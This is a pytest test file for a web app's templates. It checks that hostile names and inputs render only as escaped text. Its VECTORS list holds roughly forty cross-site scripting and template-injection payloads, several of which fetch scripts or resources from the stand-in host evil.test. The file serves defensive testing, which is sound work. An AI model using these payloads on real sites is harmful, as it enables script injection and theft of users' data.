"""Names that others gave, of runs, models, texts, sources, lists and questions, are only text on every page."""

import json
import shutil

import duckdb
import pytest

from monoscope.atlas.schema import DATABASE, MANIFEST
from monoscope.core.artifact import digest_file, read_json, write_json
from monoscope.serve.app import create_app
from monoscope.serve.library import Library

from .client import PORT, Client, Page
from .toy_map import lay_map

# Each closes, opens or starts something in one of the places where a name may stand: text, attribute, script, style,
# address, comment, or a place between encodings.
VECTORS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.test/x></sCrIpT>", "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "<svg><animate onbegin=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)", "<iframe srcdoc='x'>",
    "</title><script>alert(1)</script>", "</textarea><img src=x>", "</style><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "{{7*7}}", "${7*7}", "{%raw%}",
    "<math><mtext></p><img src=x>", "<details open ontoggle=alert(1)>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;//evil.test>", "<link rel=stylesheet href=//evil.test>", "&lt;script&gt;",
    "&#60;img src=x&#62;", "\\u003cimg src=x\\u003e", "<img src=x onerror\x0b=alert(1)>", "<img/src/onerror=alert(1)>",
    "\u202e<b>\u2066", "\ufeff\u200b\u2028\u2029", "\x00\x1b[31m\x07", "é́" * 40, "👩‍💻" * 30,
    "<" * 200, "\"'`=<>/" * 20,
    "data:text/html,<script>alert(1)</script>", "onmouseover=alert(1) x=", "<style>@import'//evil.test'</style>",
    "<object data=//evil.test>", "<form action=//evil.test><button>x",
]  # fmt: skip
NAME = "<img src=x onerror=alert(1)>\"'& {{7*7}}\u202e"
PAGES = ["/", "/search?q=fox", "/search?q=like", "/map", "/map?q=fox&f=1", "/contrast", "/prompt", "/steer?add=0",
         "/steer?preset=first", "/nowhere", "/f/toy/999", "/f/other/1", "/search?q=0&by=like&limit=100"]  # fmt: skip


@pytest.fixture(scope="module")
def hostile(run, toy, tmp_path_factory):
    """The run under a bad name, with bad words wherever an atlas or a run keeps words."""
    folder = tmp_path_factory.mktemp("names") / NAME.replace("/", "")
    shutil.copytree(run, folder)
    atlas = folder / "atlas" / "toy"
    with duckdb.connect(str(atlas / DATABASE)) as database:
        labels = f"list_extract(?, 1 + feature % {len(VECTORS)})"
        database.execute(f"UPDATE features SET label = {labels}", [VECTORS])
    manifest = read_json(atlas / MANIFEST)
    for kind, words in (("sources", VECTORS), ("languages", VECTORS[4:])):
        manifest[kind] = dict(zip(words, manifest[kind].values(), strict=False))
    manifest["digests"][DATABASE] = digest_file(atlas / DATABASE)
    write_json(atlas / MANIFEST, manifest)
    lay_map(atlas, (VECTORS[2], VECTORS[3]))
    about = read_json(folder / "dictionaries" / "toy" / "monoscope.json")
    about["provenance"] |= {"model": NAME, "text": NAME}
    write_json(folder / "dictionaries" / "toy" / "monoscope.json", about)
    answers = {"question": NAME, "baseline": VECTORS[0], "steered": VECTORS[2]}
    told = {**answers, "edits": [NAME, "1 add 0.4r"], "preset": NAME}
    (folder / "demo.json").write_text(json.dumps(told))
    library = Library(folder)
    library.give_model(toy)
    desk = library.atlas().desk
    for number in range(4):
        words = " ".join(VECTORS[number::4]).replace("\x00", "")
        desk.note(number, words)
        desk.put_list(words[:90], [number])
    yield Client(create_app(folder, library=library, port=PORT))
    library.close()


def check(answer, *, own=False):
    """Nothing of the names became more than text; `own` words of a visitor may stand in a field as they were typed."""
    found = Page(answer.text)
    found.check_policy()
    assert not found.all("math") and not found.all("base") and not found.all("meta http-equiv")
    assert not [tag for tag, attrs in found.tags if "http-equiv" in attrs or "srcdoc" in attrs]
    assert own or not {"\u202e", "\x00", "\x1b"} & set(answer.text)
    assert "49" not in [attrs.get("value") for _, attrs in found.tags]
    return found


@pytest.mark.parametrize("path", PAGES)
def test_bad_names_are_text_on_every_page(hostile, path):
    answer = hostile.get(path)
    assert answer.status_code in (200, 400, 404, 409), answer.text
    check(answer)


def test_bad_labels_notes_and_lists_are_text(hostile):
    for feature in range(4):
        check(hostile.get(f"/f/toy/{feature}"))


@pytest.mark.parametrize("words", VECTORS)
def test_bad_words_that_a_visitor_sends_are_text(hostile, words):
    for by in ("words", "like", words):
        check(hostile.get("/search", params={"q": words, "by": by, "source": words, "density_min": words}), own=True)
    check(hostile.get("/steer", params={"edit": [words], "preset": words, "prompt": words}), own=True)
    check(hostile.post("/prompt", data={"text": words, "dictionary": "toy"}), own=True)
    check(hostile.post("/contrast", data={"positive": f"{words}\na", "negative": f"{words}\nb"}), own=True)
